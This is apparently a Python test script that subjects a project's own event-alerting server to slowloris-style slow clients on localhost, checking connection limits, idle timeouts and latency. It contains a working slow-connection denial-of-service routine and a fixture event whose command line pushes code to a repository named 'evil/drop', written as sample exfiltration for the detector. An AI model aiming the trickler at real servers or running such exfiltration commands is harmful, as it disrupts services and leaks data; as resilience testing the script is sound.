#!/usr/bin/env python3
"""Slow clients (slowloris) against the real binary (issue 6).

1. --max-connections 2000, --connection-timeout 4: 1 000 connections send
   a request header one byte at a time (each gets a byte every ~150 ms,
   from 2 threads with non-blocking sockets); the header never ends. While
   they trickle, normal POST /events and GET /healthz on new connections
   are all answered, p99 latency < 1 s. Then the trickle stops: the idle
   timeout drops every slow connection (EOF/RST seen on each), and the
   service is still healthy.
2. The default --max-connections 512 with --connection-timeout 3: 1 000
   trickling connections; past 512 libmicrohttpd stops accepting and the
   excess waits in the listen backlog (not served). Normal requests
   made while the 512 slots are held may be refused too (counted and
   printed: an idle timeout does not stop a client that keeps sending a
   byte now and then, only --max-connections bounds it). When the trickle
   stops, the slow ones time out and normal requests get through again.

Figures are printed. Every loop is bounded (RX_VALGRIND=1 shrinks the
number of connections). Last line: "N passed, M failed".
"""
import http.client
import json
import os
import resource
import select
import socket
import sys
import threading
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from rxharness import VALGRIND, Server, Tally, request, t  # noqa: E402

T = Tally()
JSON = {"Content-Type": "application/json"}
PUSH = {"EventID": 1, "Image": "C:\\Program Files\\Git\\cmd\\git.exe",
        "CommandLine": "git push https://github.com/evil/drop.git main",
        "Computer": "WS01"}
N_SLOW = 100 if VALGRIND else 1000
HEADER = (b"GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: " +
          b"a" * 100000)  # never ends within the test
TICK = 0.15  # seconds between two bytes on one connection


def raise_nofile(n):
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    want = n if hard == resource.RLIM_INFINITY else min(n, hard)
    if soft < want:
        resource.setrlimit(resource.RLIMIT_NOFILE, (want, hard))
    return resource.getrlimit(resource.RLIMIT_NOFILE)[0]


class Trickler:
    """n connections, each sent HEADER one byte per TICK by `threads`
    threads; a connection the server closed is noticed (poll) and
    counted. stop_sending() keeps the sockets open but silent."""

    def __init__(self, port, n, threads=2):
        self.port = port
        self.socks = []
        self.connect_failed = 0
        self.closed_at = {}  # fileno -> seconds after start when closed
        self.sent = {}
        self.lock = threading.Lock()
        self.sending = True
        self.running = True
        self.t0 = time.time()
        for _ in range(n):
            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            s.setblocking(False)
            try:
                s.connect(("127.0.0.1", port))
            except BlockingIOError:
                pass
            except OSError:
                self.connect_failed += 1
                s.close()
                continue
            self.socks.append(s)
            self.sent[s.fileno()] = 0
        self.connect_time = time.time() - self.t0
        parts = [self.socks[i::threads] for i in range(threads)]
        self.threads = [threading.Thread(target=self._run, args=(p,),
                                         daemon=True) for p in parts]
        for th in self.threads:
            th.start()

    def _closed(self, s):
        with self.lock:
            if s.fileno() not in self.closed_at:
                self.closed_at[s.fileno()] = time.time() - self.t0

    def _run(self, socks):
        poller = select.poll()
        by_fd = {}
        for s in socks:
            poller.register(s, select.POLLIN | select.POLLHUP |
                            select.POLLERR)
            by_fd[s.fileno()] = s
        live = dict(by_fd)
        deadline = time.time() + 600  # hard bound
        while self.running and live and time.time() < deadline:
            start = time.time()
            for fd, ev in poller.poll(0):
                s = by_fd[fd]
                try:
                    data = s.recv(4096)
                except BlockingIOError:
                    continue
                except OSError:
                    data = b""
                if not data:  # EOF or reset: the server dropped it
                    poller.unregister(fd)
                    live.pop(fd, None)
                    self._closed(s)
                # else: an answer (e.g. an error page); it will close next
            if self.sending:
                for fd, s in list(live.items()):
                    i = self.sent[fd]
                    if i >= len(HEADER):
                        continue
                    try:
                        if s.send(HEADER[i:i + 1]) == 1:
                            self.sent[fd] = i + 1
                    except (BlockingIOError, InterruptedError):
                        pass
                    except OSError:
                        poller.unregister(fd)
                        live.pop(fd, None)
                        self._closed(s)
            time.sleep(max(0.0, TICK - (time.time() - start)))

    def n_closed(self):
        with self.lock:
            return len(self.closed_at)

    def stop_sending(self):
        self.sending = False

    def close(self):
        self.running = False
        for th in self.threads:
            th.join(10)
        for s in self.socks:
            s.close()


def pct(values, p):
    if not values:
        return float("nan")
    v = sorted(values)
    return v[min(len(v) - 1, int(round(p / 100.0 * (len(v) - 1))))]


def measure(port, seconds, max_requests):
    """Normal requests (POST /events and GET /healthz in turn), each on a
    new connection, for `seconds` at most. Returns (latencies, failures,
    wrong answers)."""
    lat, fails, wrong = [], [], []
    body = json.dumps([PUSH])
    end = time.time() + seconds
    i = 0
    while time.time() < end and i < max_requests:
        t0 = time.time()
        try:
            if i % 2 == 0:
                r = request(port, "POST", "/events?notify=false", body, JSON,
                            timeout=5)
                good = (r.status == 200 and
                        (r.json() or {}).get("alert_count") == 1)
            else:
                r = request(port, "GET", "/healthz", timeout=5)
                good = r.status == 200
            lat.append(time.time() - t0)
            if not good:
                wrong.append(repr(r))
        except (OSError, http.client.HTTPException) as e:
            fails.append(repr(e))
        i += 1
        time.sleep(0.02)
    return lat, fails, wrong


def wait_for(pred, timeout, step=0.1):
    deadline = time.time() + timeout
    while time.time() < deadline:
        if pred():
            return True
        time.sleep(step)
    return pred()


def test_many_slow(n):
    srv = Server("--workers", "2", "--max-connections", "2000",
                 "--connection-timeout", "4", name="slow-2000")
    try:
        tr = Trickler(srv.port, n)
        T.check(tr.connect_failed == 0, "slow: %d connections opened" % n,
                "%d failed" % tr.connect_failed)
        time.sleep(t(1))  # every slow one accepted and trickling
        closed_early = tr.n_closed()
        lat, fails, wrong = measure(srv.port, t(8), 400)
        closed_during = tr.n_closed()
        p50, p99, mx = pct(lat, 50), pct(lat, 99), max(lat or [0])
        print("slow clients (%d trickling, limit 2000): %d normal requests, "
              "%d failed, p50 %.1f ms, p99 %.1f ms, max %.1f ms; slow "
              "connections closed while trickling: %d (connect %.2fs)" %
              (n, len(lat) + len(fails), len(fails), p50 * 1e3, p99 * 1e3,
               mx * 1e3, closed_during, tr.connect_time), flush=True)
        T.check(closed_early == 0 and closed_during == 0,
                "slow: no trickling connection dropped while it sends",
                "%d/%d" % (closed_early, closed_during))
        T.check(not fails, "slow: every normal request answered",
                "; ".join(fails[:3]))
        T.check(not wrong, "slow: every normal answer right",
                "; ".join(wrong[:3]))
        T.check(len(lat) >= 20, "slow: enough normal requests", len(lat))
        T.check(p99 < t(1), "slow: p99 latency < 1 s", "%.3fs" % p99)
        # Stop trickling: the idle timeout (4 s) drops every one.
        tr.stop_sending()
        t0 = time.time()
        ok = wait_for(lambda: tr.n_closed() == len(tr.socks), t(20))
        print("slow clients silent: %d/%d dropped by the server in %.1fs" %
              (tr.n_closed(), len(tr.socks), time.time() - t0), flush=True)
        T.check(ok, "slow: every silent connection dropped by the timeout",
                "%d of %d" % (tr.n_closed(), len(tr.socks)))
        tr.close()
        T.healthy(srv, "slow (limit 2000)")
    finally:
        T.stopped_cleanly(srv, "slow-2000")


def test_default_limit(n, limit):
    extra = [] if limit == 512 else ["--max-connections", str(limit)]
    srv = Server("--workers", "2", "--connection-timeout", "3", *extra,
                 name="slow-512")
    try:
        tr = Trickler(srv.port, n)
        # Past the limit libmicrohttpd 0.9.75 (epoll) stops accepting: the
        # excess waits in the kernel's listen backlog (1 024), unserved,
        # and is accepted (then timed out) only when slots free up. (Older
        # versions accepted and closed it at once: both are fine here.)
        excess = n - limit
        time.sleep(t(2))
        closed = tr.n_closed()
        print("limit %d, %d trickling: %d closed by the server at once "
              "(the rest held or queued in the backlog)" % (limit, n, closed),
              flush=True)
        T.check(closed == 0 or excess - 8 <= closed <= excess + 8,
                "limit %d: the excess is queued or closed, no held slot "
                "dropped" % limit, "%d closed, excess %d" % (closed, excess))
        # While 512 slots are held, new connections may be refused too.
        lat, fails, wrong = measure(srv.port, t(2), 3)
        print("limit 512 held by trickling clients: %d of %d normal "
              "requests failed (expected: the limit is what bounds a "
              "client that keeps sending)" % (len(fails) + len(wrong),
                                              len(lat) + len(fails)),
              flush=True)
        T.check(srv.proc.poll() is None, "limit 512: still running")
        # Stop trickling: the 3 s idle timeout frees the slots.
        tr.stop_sending()
        t0 = time.time()
        ok = wait_for(lambda: tr.n_closed() == len(tr.socks), t(20))
        print("limit 512: silent slow connections dropped in %.1fs" %
              (time.time() - t0), flush=True)
        T.check(ok, "limit 512: every slow connection dropped in the end",
                "%d of %d" % (tr.n_closed(), len(tr.socks)))
        tr.close()
        lat, fails, wrong = measure(srv.port, t(3), 40)
        T.check(not fails and not wrong and lat,
                "limit 512: normal requests get through after",
                "; ".join((fails + wrong)[:3]))
        T.check(pct(lat, 99) < t(1), "limit 512: p99 < 1 s after",
                "%.3f" % pct(lat, 99))
        T.healthy(srv, "slow (default limit)")
    finally:
        T.stopped_cleanly(srv, "slow-512")


def main():
    got = raise_nofile(4096)
    T.check(got >= N_SLOW + 200, "RLIMIT_NOFILE high enough", got)
    test_many_slow(N_SLOW)
    # Under valgrind: 100 connections against a limit of 50.
    test_default_limit(N_SLOW, 50 if VALGRIND else 512)
    return T.finish()


if __name__ == "__main__":
    sys.exit(main())
